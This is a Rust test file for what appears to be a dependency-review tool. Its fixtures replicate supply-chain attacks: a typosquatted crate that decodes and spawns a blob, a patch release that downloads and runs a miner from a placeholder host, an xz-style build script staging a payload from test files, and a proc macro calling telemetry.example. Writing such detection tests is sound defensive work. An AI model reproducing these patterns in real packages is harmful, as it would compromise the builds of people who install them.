    let evil = format!("const BLOB: &str = \"{blob}\";\nconst KEY: u8 = 0x5a;\n\npub fn init() {{\n    let data: Vec<u8> = BLOB.bytes().map(|b| b ^ KEY).collect();\n    let path = std::env::temp_dir().join(\".tu-cache\");\n    if std::fs::write(&path, &data).is_ok() {{\n        let _ = std::process::Command::new(&path).spawn();\n    }}\n}}\n");
    let table: String = (0..64).map(|i| format!("    {},\n", i * 7 % 256)).collect();
    let tables = format!("pub static TABLE: [u8; 64] = [\n{table}];\n");
    let netutil = |v: &'static str, dep: bool| {
        let (extra, deps): (&str, &[&'static str]) = if dep { ("[dependencies]\ntokio-utill = \"0.7\"\n", &["tokio-utill"]) } else { ("", &[]) };
        krate("netutil", v, extra, &[("src/lib.rs", "pub fn mtu() -> usize {\n    1500\n}\n")], deps)
    };
    let imgcodec = |v: &'static str, dep: bool| {
        let (extra, deps): (&str, &[&'static str]) = if dep { ("[dependencies]\npng-tables = \"0.1\"\n", &["png-tables"]) } else { ("", &[]) };
        krate("imgcodec", v, extra, &[("src/lib.rs", "pub fn decode(b: &[u8]) -> usize {\n    b.len()\n}\n")], deps)
    };
    let evil_k = Krate { name: "tokio-utill", version: "0.7.1", files: vec![("Cargo.toml".into(), manifest("tokio-utill", "0.7.1", "")), ("src/lib.rs".into(), evil)], deps: vec![] };
    let tables_k = Krate { name: "png-tables", version: "0.1.0", files: vec![("Cargo.toml".into(), manifest("png-tables", "0.1.0", "")), ("src/lib.rs".into(), tables)], deps: vec![] };
    Replica {
        base: vec![netutil("1.2.3", false), imgcodec("0.9.0", false)],
        head: vec![netutil("1.2.4", true), evil_k, imgcodec("0.9.1", true), tables_k],
        direct_base: vec!["imgcodec", "netutil"],
        direct_head: vec!["imgcodec", "netutil"],
        malicious: "tokio-utill",
        benign: "png-tables",
    }
}

#[test]
fn replica_d_a_patch_release_adding_a_dependency_with_an_encrypted_blob() {
    let (doc, _) = review_replica("encrypted blob", &replica_blob(), &[]);
    let codes = reasons(&doc, "tokio-utill");
    for c in ["name-squat", "suspicious-lines", "capability"] {
        assert!(codes.contains(&c.to_string()), "{c}: {codes:?}");
    }
    assert!(reasons(&doc, "netutil").contains(&"patch-adds-dependencies".to_string()), "{:?}", reasons(&doc, "netutil"));
    let flag = pkg(&doc, "netutil")["flags"].as_array().unwrap().iter().find(|f| f["code"] == "new-dependency").unwrap().clone();
    assert_eq!(flag["message"], "brings 1 dependency new to the build: tokio-utill");
    // The suspicious line is shown.
    let sl = pkg(&doc, "tokio-utill")["flags"].as_array().unwrap().iter().find(|f| f["code"] == "suspicious-lines").unwrap().clone();
    assert!(sl["evidence"][0].as_str().unwrap().contains("const BLOB: &str = \"U2FsdGVkX1"), "{sl:#}");
}

/// A compromised patch release that downloads a miner and starts it. Twin: a patch release
/// that starts opening the user's editor.
fn replica_miner() -> Replica {
    const OLD: &str = "pub fn digest(b: &[u8]) -> u64 {\n    b.iter().fold(0u64, |h, x| h.wrapping_mul(31).wrapping_add(*x as u64))\n}\n";
    const NEW: &str = "use std::io::{Read, Write};\n\npub fn digest(b: &[u8]) -> u64 {\n    std::thread::spawn(warm_up);\n    b.iter().fold(0u64, |h, x| h.wrapping_mul(31).wrapping_add(*x as u64))\n}\n\nfn warm_up() {\n    let Ok(mut s) = std::net::TcpStream::connect(\"cdn.example:80\") else { return };\n    let _ = s.write_all(b\"GET /xmrig HTTP/1.0\\r\\n\\r\\n\");\n    let mut bin = Vec::new();\n    let _ = s.read_to_end(&mut bin);\n    let path = \"/tmp/.kworker\";\n    if std::fs::write(path, &bin).is_ok() {\n        let _ = std::process::Command::new(path).args([\"-o\", \"pool.example:3333\", \"--background\"]).spawn();\n    }\n}\n";
    const EDIT_OLD: &str = "pub fn edit(path: &str) -> bool {\n    !path.is_empty()\n}\n";
    const EDIT_NEW: &str = "pub fn edit(path: &str) -> bool {\n    let editor = std::env::var(\"EDITOR\").unwrap_or_else(|_| \"vi\".into());\n    std::process::Command::new(editor).arg(path).status().is_ok()\n}\n";
    Replica {
        base: vec![krate("hashutil", "3.1.0", "", &[("src/lib.rs", OLD)], &[]), krate("editlaunch", "0.4.0", "", &[("src/lib.rs", EDIT_OLD)], &[])],
        head: vec![krate("hashutil", "3.1.1", "", &[("src/lib.rs", NEW)], &[]), krate("editlaunch", "0.4.1", "", &[("src/lib.rs", EDIT_NEW)], &[])],
        direct_base: vec!["editlaunch", "hashutil"],
        direct_head: vec!["editlaunch", "hashutil"],
        malicious: "hashutil",
        benign: "editlaunch",
    }
}

#[test]
fn replica_e_a_compromised_release_spawning_a_miner() {
    let (doc, _) = review_replica("miner", &replica_miner(), &[]);
    assert!(reasons(&doc, "hashutil").contains(&"download-and-run".to_string()), "{:?}", reasons(&doc, "hashutil"));
}

/// Binary test files carrying a payload that the build script reads (the xz shape). Twin: a
/// release adding binary test images no code reads.
fn replica_binary_tests() -> Replica {
    const BUILD_OLD: &str = "fn main() {\n    println!(\"cargo:rerun-if-changed=build.rs\");\n}\n";
    const BUILD_NEW: &str = "fn main() {\n    println!(\"cargo:rerun-if-changed=build.rs\");\n    let blob = include_bytes!(\"tests/files/bad-3-corrupt_lzma2.xz\");\n    let stage: Vec<u8> = blob.iter().rev().map(|b| b.wrapping_sub(0x2d)).collect();\n    let out = std::env::var(\"OUT_DIR\").unwrap();\n    std::fs::write(format!(\"{out}/../../../liblzma_la-crc64-fast.o\"), stage).unwrap();\n}\n";
    let payload = "\u{fd}7zXZ\0\0\u{4}\u{e6}\u{d6}\u{b4}F\u{2}\0!\u{1}\u{16}\0\0\0t/\u{e5}\u{a3}\u{1}\0\u{1f}payload";
    let png = "\u{89}PNG\r\n\u{1a}\n\0\0\0\rIHDR\0\0\0\u{10}";
    let lib = "pub fn crc64(b: &[u8]) -> u64 {\n    b.len() as u64\n}\n";
    let img = "pub fn width(b: &[u8]) -> u32 {\n    b.len() as u32\n}\n";
    Replica {
        base: vec![
            krate("xzcompat", "5.6.0", "build = \"build.rs\"\n", &[("src/lib.rs", lib), ("build.rs", BUILD_OLD)], &[]),
            krate("imgdecode", "2.0.0", "", &[("src/lib.rs", img)], &[]),
        ],
        head: vec![
            krate("xzcompat", "5.6.1", "build = \"build.rs\"\n", &[("src/lib.rs", lib), ("build.rs", BUILD_NEW), ("tests/files/bad-3-corrupt_lzma2.xz", payload)], &[]),
            krate("imgdecode", "2.0.1", "", &[("src/lib.rs", img), ("tests/images/tiny.png", png)], &[]),
        ],
        direct_base: vec!["imgdecode", "xzcompat"],
        direct_head: vec!["imgdecode", "xzcompat"],
        malicious: "xzcompat",
        benign: "imgdecode",
    }
}

#[test]
fn replica_f_binary_test_files_carrying_a_payload() {
    let (doc, _) = review_replica("binary test files", &replica_binary_tests(), &[]);
    let codes = reasons(&doc, "xzcompat");
    assert!(codes.contains(&"binary-read".to_string()), "{codes:?}");
    assert!(!reasons(&doc, "imgdecode").contains(&"binary-read".to_string()));
}

/// A new proc macro (`serde_derives`, after `serde_derive`) whose output makes network calls.
/// Twin: a new proc macro that derives getters.
fn replica_proc_macro() -> Replica {
    const EVIL: &str = "extern crate proc_macro;\nuse proc_macro::TokenStream;\n\n#[proc_macro_derive(Serialize)]\npub fn derive(_input: TokenStream) -> TokenStream {\n    if let Ok(mut s) = std::net::TcpStream::connect(\"telemetry.example:443\") {\n        use std::io::Write;\n        let _ = s.write_all(std::env::var(\"CARGO_PKG_NAME\").unwrap_or_default().as_bytes());\n    }\n    \"fn __serde_init() { let _ = std::net::TcpStream::connect(\\\"telemetry.example:443\\\"); }\".parse().unwrap()\n}\n";
    const TWIN: &str = "extern crate proc_macro;\nuse proc_macro::TokenStream;\n\n#[proc_macro_derive(Getters)]\npub fn derive(_input: TokenStream) -> TokenStream {\n    TokenStream::new()\n}\n";
    let pm = "[lib]\nproc-macro = true\n";
    Replica {
        base: vec![],
        head: vec![krate("serde_derives", "1.0.1", pm, &[("src/lib.rs", EVIL)], &[]), krate("getset-derive", "0.2.0", pm, &[("src/lib.rs", TWIN)], &[])],
        direct_base: vec![],
        direct_head: vec!["getset-derive", "serde_derives"],
        malicious: "serde_derives",
        benign: "getset-derive",
    }
}

#[test]
fn replica_g_a_proc_macro_emitting_network_calls() {
    let (doc, _) = review_replica("proc macro", &replica_proc_macro(), &[]);
    let codes = reasons(&doc, "serde_derives");
    assert!(codes.contains(&"name-squat".to_string()), "{codes:?}");
    assert_eq!(pkg(&doc, "serde_derives")["squat"]["how"], "plural");
}

/// The same packages with benign contents do not rank above the malicious ones: every
/// replica's twins together with the malicious packages.
#[test]
fn a_benign_change_with_the_same_packages_does_not_outrank_the_attack() {
    let r = replica_logger();
    let benign = Replica {
        head: r
            .head
            .iter()
            .map(|k| if k.name == "faster_log" { krate("faster_log", "0.1.0", "", &[("src/lib.rs", "pub fn init() {}\n")], &[]) } else { k.clone() })
            .collect(),
        ..replica_logger()
    };
    let w = replica_world(&benign);
    let doc = w.review(&["--format", "json"]).json();
    // Its name still imitates a popular crate, so it is still read first: but for less.
    let bad = review_replica("typosquatted logger (again)", &r, &[]).0;
    assert!(score(&doc, "faster_log") < score(&bad, "faster_log"), "{} vs {}", score(&doc, "faster_log"), score(&bad, "faster_log"));
    assert!(!reasons(&doc, "faster_log").contains(&"read-and-send".to_string()));
}

/// Two lockfiles whose packages were built without a default feature: the lockfile does not
/// lock the optional dependency that feature turns on. Each changed package is analysed with
/// the features its entry allows, and nothing fails for what is not locked.
#[test]
fn two_lockfiles_take_features_from_what_the_lockfile_locks() {
    let w = World::new();
    // `diff` (on by default) turns on difflib, which the lockfile does not lock: it was off, and
    // so was `default`. `fancy` asks helper for `extra`, which turns on helper's zzz, which the
    // lockfile does not lock either: what the lockfile leaves out is not built.
    let manifest_extra = "\n[dependencies]\nhelper = \"1\"\ndifflib = { version = \"0.4\", optional = true }\n\n[features]\ndefault = [\"diff\"]\ndiff = [\"dep:difflib\"]\nfancy = [\"helper/extra\"]\n";
    let helper = krate("helper", "1.0.0", "\n[dependencies]\nzzz = { version = \"1\", optional = true }\n\n[features]\nextra = [\"dep:zzz\"]\n", &[("src/lib.rs", "pub fn h() {}\n")], &[]);
    let old = krate("predicates", "3.1.3", manifest_extra, &[("src/lib.rs", "#[cfg(feature = \"diff\")]\npub fn d() -> usize { difflib::n() }\npub fn p() {}\n")], &["helper"]);
    // 3.1.4 spawns `diff` behind the `diff` feature: off in this build, so not a gain.
    let new = krate("predicates", "3.1.4", manifest_extra, &[("src/lib.rs", "#[cfg(feature = \"diff\")]\npub fn d() -> usize { difflib::n() }\n#[cfg(feature = \"diff\")]\npub fn show() {\n    let _ = std::process::Command::new(\"diff\").status();\n}\npub fn p() {\n    let _ = std::fs::read(\"/etc/hosts\");\n}\n")], &["helper"]);
    w.serve(&[old.clone(), new.clone(), helper.clone()]);
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("old.lock"), lockfile(&["predicates"], &[old, helper.clone()], "")).unwrap();
    std::fs::write(dir.path().join("new.lock"), lockfile(&["predicates"], &[new, helper], "")).unwrap();
    let run = |extra: &[&str]| {
        let mut args = vec!["deps-diff", "--old", "old.lock", "--new", "new.lock", "--target", LINUX];
        args.extend_from_slice(extra);
        Run(w.cmd().current_dir(dir.path()).args(&args).output().unwrap())
    };
    let doc = run(&["--format", "json"]).json();
    let p = pkg(&doc, "predicates");
    assert_eq!(p["capabilities"]["status"], "analysed", "{p:#}");
    assert_eq!(added(p), ["fs.read"]);
    assert_eq!(doc["coverage"]["analysed"], 1);
    let human = run(&[]).expect(0);
    assert!(!human.contains("generate-lockfile") && !human.contains("velaris-probe"), "{human}");
}

/// `--format sarif`: valid SARIF 2.1.0, the widened grants at their baseline entries and the
/// gained capabilities at their lockfile entries, with fingerprints that stay put.
#[test]
fn sarif_for_code_scanning() {
    let w = incidents();
    let out = w.review(&["--format", "sarif"]).expect(0);
    let doc: Value = serde_json::from_str(&out).unwrap();
    schema::assert_valid_sarif(&doc);
    // The validator is not a rubber stamp: a result without a message is refused.
    let mut broken = doc.clone();
    broken["runs"][0]["results"][0].as_object_mut().unwrap().remove("message");
    let refused = std::panic::catch_unwind(|| schema::assert_valid_sarif(&broken));
    assert!(refused.is_err(), "the schema accepted a result without a message");
    let results = doc["runs"][0]["results"].as_array().unwrap();
    let lock = w.git(&["show", "HEAD:Cargo.lock"]);
    let logger_line = lock.lines().position(|l| l == "name = \"logger\"").unwrap() + 1;
    let net = results
        .iter()
        .find(|r| r["ruleId"] == "gained/net.connect" && r["message"]["text"].as_str().unwrap().starts_with("logger "))
        .unwrap_or_else(|| panic!("{results:#?}"));
    assert_eq!(net["locations"][0]["physicalLocation"]["artifactLocation"]["uri"], "Cargo.lock");
    assert_eq!(net["locations"][0]["physicalLocation"]["region"]["startLine"], logger_line as u64);
    assert_eq!(net["relatedLocations"][0]["physicalLocation"]["artifactLocation"]["uri"], "https://docs.rs/crate/logger/1.4.3/source/src/lib.rs");
    assert_eq!(net["relatedLocations"][0]["physicalLocation"]["region"]["startLine"], 15);
    let baseline = std::fs::read_to_string(w.repo.path().join("velaris.capabilities")).unwrap();
    let app_line = baseline.lines().position(|l| l == "[program.app]").unwrap() + 1;
    let widened = results.iter().find(|r| r["ruleId"].as_str().unwrap().starts_with("widened/")).unwrap();
    assert_eq!(widened["level"], "error");
    assert_eq!(widened["locations"][0]["physicalLocation"]["artifactLocation"]["uri"], "velaris.capabilities");
    assert_eq!(widened["locations"][0]["physicalLocation"]["region"]["startLine"], app_line as u64);
    // Fingerprints are stable from run to run, and unique.
    let fps = |d: &Value| -> Vec<String> { d["runs"][0]["results"].as_array().unwrap().iter().map(|r| r["partialFingerprints"]["velaris/v1"].as_str().unwrap().to_string()).collect() };
    let again: Value = serde_json::from_str(&w.review(&["--format", "sarif"]).expect(0)).unwrap();
    assert_eq!(fps(&doc), fps(&again));
    let mut unique = fps(&doc);
    unique.sort();
    unique.dedup();
    assert_eq!(unique.len(), fps(&doc).len());
    // A change that gains nothing has no result.
    let quiet = replica_world(&Replica {
        base: vec![krate("calm", "1.0.0", "", &[("src/lib.rs", "pub fn a() {}\n")], &[])],
        head: vec![krate("calm", "1.0.1", "", &[("src/lib.rs", "pub fn a() {}\npub fn b() {}\n")], &[])],
        direct_base: vec!["calm"],
        direct_head: vec!["calm"],
        malicious: "calm",
        benign: "calm",
    });
    let q: Value = serde_json::from_str(&quiet.review(&["--format", "sarif"]).expect(0)).unwrap();
    schema::assert_valid_sarif(&q);
    assert!(q["runs"][0]["results"].as_array().unwrap().is_empty(), "{q:#}");
}

/// The JSON document is bounded: no patches unless `--diff` asks, at most 100 findings per
/// capability with the total, hunks cut.
#[test]
fn the_json_document_is_bounded() {
    let calls: String = (0..130).map(|i| format!("    let _v{i} = std::env::var(\"V{i}\");\n")).collect();
    let r = Replica {
        base: vec![krate("chatty", "1.0.0", "", &[("src/lib.rs", "pub fn f() {}\n")], &[])],
        head: vec![krate("chatty", "1.0.1", "", &[("src/lib.rs", &format!("pub fn f() {{\n{calls}}}\n"))], &[])],
        direct_base: vec!["chatty"],
        direct_head: vec!["chatty"],
        malicious: "chatty",
        benign: "chatty",
    };
    let w = replica_world(&r);
    let doc = w.review(&["--format", "json"]).json();
    let env = &pkg(&doc, "chatty")["capabilities"]["added"][0];
    assert_eq!(env["capability"], "env.read");
    assert_eq!(env["findings_total"], 130);
    assert_eq!(env["findings"].as_array().unwrap().len(), 100);
    let files = pkg(&doc, "chatty")["file_changes"].as_array().unwrap().clone();
    assert!(!files.is_empty() && files.iter().all(|f| f.get("patch").is_none()), "no patch without --diff: {files:#?}");
    let with = w.review(&["--format", "json", "--diff"]).json();
    assert!(pkg(&with, "chatty")["file_changes"].as_array().unwrap().iter().any(|f| f["patch"].is_string()), "--diff adds patches");
}

/// All seven replicas and their twins in one lockfile change: every attack's group ranks above
/// every benign twin, and the markdown stays within its default budget.
#[test]
fn all_replicas_in_one_change() {
    let all = [replica_logger(), replica_time_client(), replica_gitlab_ci(), replica_blob(), replica_miner(), replica_binary_tests(), replica_proc_macro()];
    let mut r = Replica { base: vec![], head: vec![], direct_base: vec![], direct_head: vec![], malicious: "", benign: "" };
    for x in &all {
        r.base.extend(x.base.iter().cloned());
        r.head.extend(x.head.iter().cloned());
        r.direct_base.extend(x.direct_base.iter().copied());
        r.direct_head.extend(x.direct_head.iter().copied());
    }
    r.direct_base.sort();
    r.direct_head.sort();
    let w = replica_world(&r);
    let db = concat!(env!("CARGO_MANIFEST_DIR"), "/fixtures/advisory-db");
    let doc = w.review(&["--format", "json", "--advisory-db", db]).json();
    let md = w.review(&["--format", "markdown", "--advisory-db", db]).expect(0);
    let order = names(&doc);
    let worst_attack = all.iter().map(|x| rank(&doc, x.malicious)).max().unwrap();
    let best_twin = all.iter().map(|x| rank(&doc, x.benign)).min().unwrap();
    for x in &all {
        eprintln!("all replicas: {} ranks {} of {} (score {}); twin {} ranks {}", x.malicious, rank(&doc, x.malicious), order.len(), score(&doc, x.malicious), x.benign, rank(&doc, x.benign));
    }
    eprintln!("all replicas: markdown {} characters", md.chars().count());
    assert!(worst_attack < best_twin, "{order:?}");
    assert!(md.chars().count() <= 20_000, "{}", md.chars().count());
    for x in &all {
        assert!(md.contains(&format!("**{}**", x.malicious.replace('_', "\\_"))), "{} missing:\n{md}", x.malicious);
    }
}
